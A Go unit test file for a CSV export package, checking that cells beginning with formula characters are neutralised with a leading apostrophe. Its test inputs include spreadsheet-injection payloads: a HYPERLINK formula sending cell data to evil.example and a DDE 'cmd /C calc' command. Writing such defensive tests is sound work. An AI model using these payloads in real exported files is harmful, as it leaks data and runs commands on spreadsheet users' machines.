package csvexport

import (
	"bytes"
	"encoding/csv"
	"testing"

	"github.com/stretchr/testify/require"
)

func TestCell(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?"&A1,"click")`: `'=HYPERLINK("http://evil.example/?"&A1,"click")`,
		"+1+cmd|' /C calc'!A0":                           "'+1+cmd|' /C calc'!A0",
		"-2+3":                                           "'-2+3",
		"@SUM(A1:A9)":                                    "'@SUM(A1:A9)",
		"\t=1":                                           "'\t=1",
		"\r=1":                                           "'\r=1",
		"-12.500000":                                     "-12.500000",
		"+5":                                             "+5",
		"1e30":                                           "1e30",
		"req_=1":                                         "req_=1",
		"":                                               "",
		"普通文本":                                           "普通文本",
	} {
		require.Equal(t, want, Cell(in), in)
	}
}

func TestWriterNeutralisesEveryCell(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	require.NoError(t, w.Write([]string{"id", "=1+1", "-3"}))
	require.NoError(t, w.Write([]string{"2", "@x", "ok"}))
	w.Flush()
	require.NoError(t, w.Error())
	rows, err := csv.NewReader(&b).ReadAll()
	require.NoError(t, err)
	require.Equal(t, [][]string{{"id", "'=1+1", "-3"}, {"2", "'@x", "ok"}}, rows)
}
